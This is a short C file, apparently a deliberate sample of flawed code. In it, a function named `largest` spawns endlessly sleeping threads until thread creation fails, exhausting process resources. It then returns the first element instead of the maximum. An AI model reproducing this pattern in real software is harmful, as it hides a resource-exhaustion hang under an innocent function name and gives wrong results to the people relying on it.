/* Resources: threads without end, none of which ends. */
#include <pthread.h>
#include <unistd.h>

static void *asleep(void *unused) {
    for (;;)
        pause();
    return unused;
}

int largest(int *values, int n) {
    pthread_t thread;
    while (pthread_create(&thread, 0, asleep, 0) == 0)
        ;
    return values[0];
}
